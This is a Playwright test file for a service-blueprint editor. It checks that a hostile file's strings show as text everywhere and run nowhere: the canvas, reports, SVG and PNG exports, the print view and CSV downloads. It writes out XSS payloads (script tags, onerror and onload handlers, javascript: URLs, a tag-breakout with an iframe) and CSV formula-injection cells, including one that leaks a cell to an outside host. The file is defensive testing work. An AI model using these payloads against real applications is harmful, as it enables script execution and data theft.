import { expect, type Page } from '@playwright/test';
import { Editor, test, type SavedDoc } from './fixtures';
import {
  alerts,
  blueprintDoc,
  downloadBytes,
  downloadFrom,
  openWithButton,
  step,
} from './helpers/io';
import { parseCsv } from './helpers/report';

/**
 * Hostile content: a blueprint handed in by someone else, whose every piece of text tries to
 * become markup, script or a spreadsheet formula. Opened from a file, it must show as the very
 * characters it holds everywhere (canvas, inspector, report, guide, library, history, SVG and PNG
 * exports, print, CSV), and nothing in it may run: no dialog, no console error, no page error,
 * no element from the payloads in the page.
 */

/** What a payload does if it ever runs: a visible dialog and a flag on the window. */
const RUN = "window.__hostileRan=(window.__hostileRan||0)+1;alert('hostile')";

const P = {
  script: `<script>${RUN}</script>`,
  img: `<img src=x onerror="${RUN}">`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`,
  svgAnimate: `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  breakOut: `]]></tspan></text><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject><text>`,
  jsUrl: `javascript:${RUN}`,
  link: `<a href="javascript:${RUN}">click me</a>`,
  entities: '&lt;b&gt; &amp;amp; &#60;script&#62; {title} {file} $& $1 %s',
  rtl: '\u202Eexe.txt\u202C مرحبا بالعالم שלום עולם',
  zeroWidth: 'zero\u200Bwidth\u200C\u200Djoin\uFEFFers\u2060here',
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 😀 🇨🇳 🧑🏽‍💻',
  cjk: '办理入住 チェックイン 체크인 𠀋𡈽',
} as const;

/** 100,000 characters: words, markup and CJK, so it wraps and still tries to be HTML. */
const HUGE = (() => {
  const unit = 'lorem <b>ipsum</b> 长文本 😀 ';
  return unit.repeat(Math.ceil(100_000 / unit.length)).slice(0, 100_000);
})();

/** Cells a spreadsheet would run as formulas, were they not neutralised. */
const FORMULA = {
  equals: '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+9)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
} as const;

const TITLE = `${P.script} ${P.img} ${P.rtl} ${P.emoji} ${P.cjk}`;
const LANE_LABEL = `${P.svg} ${P.zeroWidth}`;
const FLOW_LABEL = `${P.img} ${P.jsUrl}`;
const LONG_TITLE = `${P.svgAnimate} ${HUGE.slice(0, 300)}`;

function hostileDoc(): SavedDoc {
  const doc = blueprintDoc({
    title: TITLE,
    meta: {
      service: P.link,
      customerSegment: P.svgAnimate,
      scenario: `${P.breakOut}\n${P.entities}`,
      scenarioStart: P.script,
      scenarioEnd: P.img,
      locale: 'en',
    },
    steps: [
      step('s-script', 'customer', 0, P.script, {
        description: P.svg,
        failPoint: {
          risk: FORMULA.plus,
          probability: 0.1,
          costPerFailure: 20,
          recovery: P.img,
          owner: FORMULA.at,
        },
      }),
      step('s-img', 'customer', 300, P.img, {
        description: HUGE,
        wait: { expectedMin: 12, toleranceMin: 5 },
      }),
      step('s-formula', 'onstage', 0, FORMULA.equals, {
        description: P.jsUrl,
        failPoint: {
          risk: P.breakOut,
          probability: 0.05,
          costPerFailure: 40,
          recovery: FORMULA.minus,
          owner: P.rtl,
        },
      }),
      step('s-rtl', 'onstage', 300, `${P.rtl} ${P.zeroWidth}`, {
        wait: { expectedMin: 3, toleranceMin: 10 },
      }),
      step('s-emoji', 'backstage', 0, `${P.emoji} ${P.cjk}`, { description: P.entities }),
      step('s-entities', 'backstage', 300, P.entities),
      step('s-huge', 'support', 0, HUGE),
      step('s-tab', 'evidence', 0, FORMULA.tab, {
        failPoint: {
          risk: FORMULA.cr,
          probability: 0.02,
          costPerFailure: 5,
          recovery: P.link,
          owner: '',
        },
      }),
      step('s-breakout', 'custom-lane', 0, P.breakOut),
    ],
    flows: [
      { id: 'f1', from: 's-script', to: 's-img', label: FLOW_LABEL, twoWay: false },
      { id: 'f2', from: 's-script', to: 's-formula', label: P.svg, twoWay: true },
      { id: 'f3', from: 's-formula', to: 's-rtl', label: P.cjk, twoWay: false },
    ],
    economics: {
      customersPerMonth: 1000,
      spendPerVisit: 50,
      visitsPerYear: 2,
      yearsRetained: 3,
      currency: 'USD',
    },
    improvements: [
      {
        id: 'i1',
        title: P.script,
        addresses: ['s-script'],
        oneOffCost: 100,
        runningCostPerMonth: 10,
        newProbability: 0.01,
        status: 'idea',
      },
      {
        id: 'i2',
        title: FORMULA.tab,
        addresses: ['s-formula', 's-tab'],
        oneOffCost: 50,
        runningCostPerMonth: 0,
        newProbability: 0.01,
        status: 'planned',
      },
      {
        id: 'i3',
        title: LONG_TITLE,
        addresses: ['s-img'],
        oneOffCost: 10,
        runningCostPerMonth: 0,
        newWaitMin: 2,
        status: 'done',
      },
    ],
    guide: { step: 5, done: [] },
  });
  doc.lanes[1]!.label = `${P.img} ${P.rtl}`;
  doc.lanes.push({ id: 'custom-lane', kind: 'custom', label: LANE_LABEL, height: 150 });
  return doc;
}

const FILE_NAME = '<img src=x onerror=alert(1)>.blueprint.json';

interface Incidents {
  dialogs: string[];
  consoleErrors: string[];
  pageErrors: string[];
}

/** Records every dialog (dismissed), console error and uncaught error on the page. */
function watch(page: Page): Incidents {
  const incidents: Incidents = { dialogs: [], consoleErrors: [], pageErrors: [] };
  page.on('dialog', (dialog) => {
    incidents.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (message.type() === 'error') incidents.consoleErrors.push(message.text());
  });
  page.on('pageerror', (error) => incidents.pageErrors.push(String(error)));
  return incidents;
}

/**
 * Elements and attributes a payload would leave if it were parsed as markup anywhere in the page
 * (the light DOM, including SVG and the print view). The app's own page has none of them.
 */
async function markupFromPayloads(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const suspicious =
      'img[src="x"], script:not([src]), iframe, object, embed, foreignObject, animate, a[href^="javascript" i], [src^="javascript" i], [href^="javascript" i]';
    for (const el of document.querySelectorAll(suspicious)) found.push(el.outerHTML.slice(0, 120));
    for (const el of document.querySelectorAll('*'))
      for (const attribute of el.attributes)
        if (/^on/i.test(attribute.name)) found.push(`${el.localName}[${attribute.name}]`);
    const ran = (window as unknown as { __hostileRan?: number }).__hostileRan;
    if (ran) found.push(`payload ran ${ran} times`);
    return found;
  });
}

async function expectNothingRan(page: Page, incidents: Incidents): Promise<void> {
  expect(await markupFromPayloads(page)).toEqual([]);
  expect(incidents).toEqual({ dialogs: [], consoleErrors: [], pageErrors: [] });
}

async function openHostileFile(page: Page): Promise<Editor> {
  const editor = new Editor(page);
  await editor.open();
  await openWithButton(page, { name: FILE_NAME, text: JSON.stringify(hostileDoc(), null, 2) });
  await expect(page.getByRole('textbox', { name: 'Blueprint title' })).toHaveValue(TITLE);
  await expect(alerts(page)).toHaveCount(0);
  return editor;
}

/** Selects a card from the keyboard (long flow labels may lie over it). */
async function selectStep(page: Page, id: string): Promise<void> {
  await page.locator('.react-flow__node', { has: page.locator(`[data-step-id="${id}"]`) }).focus();
  await page.keyboard.press('Space');
  await expect(page.getByRole('textbox', { name: 'Step label' })).toHaveCount(0);
}

/** Text with every run of white space removed (wrapping and collapsing may move it). */
const squeeze = (text: string) => text.replace(/\s+/g, '');

/**
 * Each drawn card's text is its step's label: wrapped (so compared without white space), and a
 * label longer than four lines cut with "…". Every label but the 100,000 characters is whole.
 */
function expectCardTexts(drawn: string[], doc: SavedDoc): void {
  const remaining = doc.steps.map((s) => squeeze(s.label));
  for (const text of drawn.map(squeeze)) {
    const at = text.endsWith('…')
      ? remaining.findIndex((label) => label.startsWith(text.slice(0, -1)))
      : remaining.indexOf(text);
    expect(at, `drawn card ${JSON.stringify(text.slice(0, 60))}`).toBeGreaterThanOrEqual(0);
    remaining.splice(at, 1);
  }
  expect(remaining).toEqual([]);
}

test.describe('hostile content in an opened file', () => {
  // 100,000 characters travel through every view and export: more work than most tests.
  test.describe.configure({ timeout: 90_000 });

  test('shows as text on the canvas, in the inspector, guide, library and history; nothing runs', async ({
    page,
  }) => {
    const incidents = watch(page);
    const editor = await openHostileFile(page);
    const doc = hostileDoc();

    // Canvas: every card's label is exactly the text in the file.
    await expect(editor.steps()).toHaveCount(doc.steps.length);
    const cards = await page
      .locator('.react-flow__node-step')
      .evaluateAll((nodes) =>
        nodes.map((n) => [
          n.querySelector('[data-step-id]')?.getAttribute('data-step-id'),
          n.querySelector('.step-label')?.textContent,
        ]),
      );
    expect(cards).toHaveLength(doc.steps.length);
    for (const [id, shown] of cards) {
      const label = doc.steps.find((s) => s.id === id)!.label;
      // A card shows four lines at most: a very long label may be cut, never changed.
      if (shown !== label) {
        expect(shown?.endsWith('…'), `card ${id}`).toBe(true);
        expect(label.startsWith(shown!.slice(0, -1)), `card ${id}`).toBe(true);
      }
    }
    expect(cards.filter(([, shown]) => shown!.endsWith('…'))).toHaveLength(1);
    // Flow labels and lane names, likewise.
    const flowLabels = await page.locator('.flow-label').allTextContents();
    expect(flowLabels.sort()).toEqual(doc.flows.map((f) => f.label).sort());
    for (const lane of doc.lanes.filter((l) => l.label.includes('<')))
      await expect(page.locator(`[data-lane-header="${lane.id}"]`)).toContainText(lane.label);
    await expectNothingRan(page, incidents);

    // Inspector: the fields hold the strings, the 100,000 characters whole.
    await selectStep(page, 's-script');
    const inspector = page.getByRole('region', { name: 'Step' });
    await expect(inspector.getByRole('textbox', { name: 'Label' })).toHaveValue(P.script);
    await expect(inspector.getByRole('textbox', { name: 'Description' })).toHaveValue(P.svg);
    await expect(inspector.getByRole('textbox', { name: 'What goes wrong' })).toHaveValue(
      FORMULA.plus,
    );
    await expect(inspector.getByRole('textbox', { name: 'Recovery' })).toHaveValue(P.img);
    await expect(inspector.getByRole('textbox', { name: 'Owner' })).toHaveValue(FORMULA.at);
    await selectStep(page, 's-img');
    await expect(inspector.getByRole('textbox', { name: 'Label' })).toHaveValue(P.img);
    const description = inspector.getByRole('textbox', { name: 'Description' });
    expect(await description.inputValue()).toBe(HUGE);
    await selectStep(page, 's-huge');
    expect(await inspector.getByRole('textbox', { name: 'Label' }).inputValue()).toBe(HUGE);
    await editor.clickFlow(`Flow from '${P.script}' to '${P.img}'`);
    await expect(page.getByRole('textbox', { name: 'Flow label' })).toHaveValue(FLOW_LABEL);
    await page.keyboard.press('Escape');
    await expectNothingRan(page, incidents);

    // Typing more markup into a label keeps it text too.
    await page.locator('[data-step-id="s-rtl"]').dblclick();
    const labelEditor = page.getByRole('textbox', { name: 'Step label' });
    await expect(labelEditor).toBeFocused();
    await labelEditor.fill(P.svgAnimate);
    await labelEditor.press('Enter');
    await expect(page.locator('[data-step-id="s-rtl"] .step-label')).toHaveText(P.svgAnimate);

    // Guide, Lanes and History tabs, and the library, show the same text without running it.
    for (const tab of ['Guide', 'Lanes', 'History']) {
      await page.getByRole('tab', { name: tab }).click();
      await expect(page.getByRole('tabpanel')).toBeVisible();
      await expectNothingRan(page, incidents);
    }
    await page.getByRole('tab', { name: 'Lanes' }).click();
    await expect(page.getByRole('textbox', { name: 'Name of lane 6' })).toHaveValue(LANE_LABEL);
    await page.getByRole('button', { name: 'Blueprints', exact: true }).click();
    const library = page.getByRole('dialog', { name: 'Blueprints' });
    await expect(library.locator('.library-title').filter({ hasText: P.script })).toHaveCount(1);
    await expectNothingRan(page, incidents);
    await page.keyboard.press('Escape');

    // What is stored is exactly the file, plus the label typed above.
    await editor.expectSaved((saved) => {
      expect(saved.title).toBe(TITLE);
      expect(saved.steps.find((s) => s.id === 's-img')!.description).toBe(HUGE);
      expect(saved.steps.find((s) => s.id === 's-rtl')!.label).toBe(P.svgAnimate);
    });
  });

  test('the report shows every string as text, and its CSV downloads disarm formulas', async ({
    page,
  }) => {
    const incidents = watch(page);
    const editor = await openHostileFile(page);
    await editor.button('Report').click();
    const report = page.locator('.report');
    await expect(report.getByRole('heading', { level: 1 })).toHaveText(`Report: ${TITLE}`);
    await expect(report.locator('.report-picture img')).toBeVisible({ timeout: 20_000 });
    const text = (await report.textContent()) ?? '';
    for (const expected of [
      P.link, // service
      P.svgAnimate, // segment
      P.script, // a fail-point step and an improvement
      FORMULA.plus,
      FORMULA.equals,
      P.breakOut,
      FORMULA.minus,
      P.img,
    ])
      expect(text, `report shows ${expected}`).toContain(expected);
    await expectNothingRan(page, incidents);

    const csv = async (name: string) =>
      parseCsv(
        await downloadBytes(
          await downloadFrom(page, () => page.getByRole('button', { name }).click()),
        ),
      );
    const failPoints = await csv('Download fail points CSV');
    const byStep = new Map(failPoints.slice(1).map((row) => [row[0], row]));
    // step, risk, probability_pct, cost, lost_share_pct, expected cost, recovery, currency
    expect(byStep.get(P.script)?.slice(0, 2)).toEqual([P.script, `'${FORMULA.plus}`]);
    expect(byStep.get(P.script)?.[6]).toBe(P.img);
    expect(byStep.get(`'${FORMULA.equals}`)?.[1]).toBe(P.breakOut);
    expect(byStep.get(`'${FORMULA.equals}`)?.[6]).toBe(`'${FORMULA.minus}`);
    expect(byStep.get(`'${FORMULA.tab}`)?.[1]).toBe(`'${FORMULA.cr}`);
    expect(failPoints.slice(1)).toHaveLength(3);

    const waits = await csv('Download waits CSV');
    expect(waits.slice(1).map((row) => row[0])).toEqual(
      expect.arrayContaining([P.img, `${P.rtl} ${P.zeroWidth}`]),
    );

    const improvements = await csv('Download improvements CSV');
    const titles = improvements.slice(1).map((row) => row[0]);
    expect(titles).toEqual(expect.arrayContaining([P.script, `'${FORMULA.tab}`, LONG_TITLE]));
    const tabRow = improvements.find((row) => row[0] === `'${FORMULA.tab}`)!;
    // The addresses cell starts with a formula step label, so it is disarmed as a whole.
    expect(tabRow[1]!.startsWith(`'`)).toBe(true);
    expect(tabRow[1]!.slice(1).split('; ').sort()).toEqual([FORMULA.equals, FORMULA.tab].sort());

    // No cell of any file starts with a character a spreadsheet runs.
    for (const cell of [...failPoints, ...waits, ...improvements].flat())
      expect(cell, `cell ${JSON.stringify(cell.slice(0, 40))}`).not.toMatch(/^[=+\-@\t\r]/);
    await expectNothingRan(page, incidents);
  });

  test('the SVG export holds the strings as text and no script or event attribute', async ({
    page,
  }) => {
    const incidents = watch(page);
    const editor = await openHostileFile(page);
    const doc = hostileDoc();
    const download = await downloadFrom(page, () => editor.button('Export SVG').click());
    const svg = (await downloadBytes(download)).toString('utf8');

    const parsed = await page.evaluate((text) => {
      const xml = new DOMParser().parseFromString(text, 'image/svg+xml');
      const all = [...xml.querySelectorAll('*')];
      const joined = (el: Element | null) =>
        [...(el?.querySelectorAll('tspan') ?? [])].map((s) => s.textContent ?? '').join(' ');
      return {
        errors: xml.getElementsByTagName('parsererror').length,
        root: xml.documentElement.localName,
        elements: [...new Set(all.map((el) => el.localName))].sort(),
        eventAttributes: all.flatMap((el) =>
          [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name),
        ),
        title: xml.querySelector('svg > title')?.textContent,
        steps: [...xml.querySelectorAll('g.step')].map((g) => joined(g.querySelector('text'))),
        flowLabels: [...xml.querySelectorAll('g.flow-label text')].map((t) => t.textContent),
        lanes: [...xml.querySelectorAll('g.lane')].map((g) => joined(g.querySelector('text'))),
      };
    }, svg);

    expect(parsed.errors).toBe(0);
    expect(parsed.root).toBe('svg');
    // Only the drawing's own elements: no script, foreignObject, iframe, a, image, animate.
    expect(parsed.elements).toEqual(
      [
        'circle',
        'defs',
        'g',
        'line',
        'marker',
        'path',
        'rect',
        'svg',
        'text',
        'title',
        'tspan',
      ].sort(),
    );
    expect(parsed.eventAttributes).toEqual([]);
    expect(parsed.title).toBe(TITLE);
    expect(parsed.flowLabels.sort()).toEqual(doc.flows.map((f) => f.label).sort());

    expectCardTexts(parsed.steps, doc);
    // Lane names (cut to the lane's height) start the lane's label.
    for (const [i, lane] of doc.lanes.entries())
      expect(squeeze(lane.label).startsWith(squeeze(parsed.lanes[i] ?? '-'))).toBe(true);

    // The raw file escapes markup rather than carrying it.
    expect(svg).not.toContain('<script');
    expect(svg).not.toContain('<img');
    expect(svg).not.toContain('<foreignObject');
    await expectNothingRan(page, incidents);
  });

  test('a PNG export opens back as the identical blueprint', async ({ page }) => {
    const incidents = watch(page);
    const editor = await openHostileFile(page);
    await expect(page.getByTestId('save-status')).toHaveText(/Saved in this browser/);
    const before = await editor.savedDoc();
    const png = await downloadBytes(
      await downloadFrom(page, () => editor.button('Export PNG').click()),
    );
    // Open the PNG as a file: the blueprint it carries becomes a new blueprint in the library.
    const [chooser] = await Promise.all([
      page.waitForEvent('filechooser'),
      editor.button('Open').click(),
    ]);
    await chooser.setFiles({ name: 'hostile.png', mimeType: 'image/png', buffer: png });
    await expect(alerts(page)).toHaveCount(0);
    await editor.expectSaved((after) => expect(after).toEqual(before));
    await expect(page.getByRole('textbox', { name: 'Blueprint title' })).toHaveValue(TITLE);
    await expectNothingRan(page, incidents);
  });

  test('the print view draws the strings as text', async ({ page }) => {
    await page.addInitScript(() => {
      window.print = () => undefined;
    });
    const incidents = watch(page);
    await openHostileFile(page);
    const doc = hostileDoc();
    await page.keyboard.press('Control+p');
    // The print view is hidden on screen; print media shows it in place of the app.
    await page.emulateMedia({ media: 'print' });
    const view = page.locator('.print-view');
    await expect(view.getByRole('heading', { level: 1 })).toHaveText(TITLE);
    await expect(view).toContainText(`Service: ${P.link}`);
    const drawn = await view
      .locator('g.step')
      .evaluateAll((steps) =>
        steps.map((g) =>
          [...(g.querySelector('text')?.querySelectorAll('tspan') ?? [])]
            .map((span) => span.textContent)
            .join(' '),
        ),
      );
    expectCardTexts(drawn, doc);
    await expectNothingRan(page, incidents);
  });
});
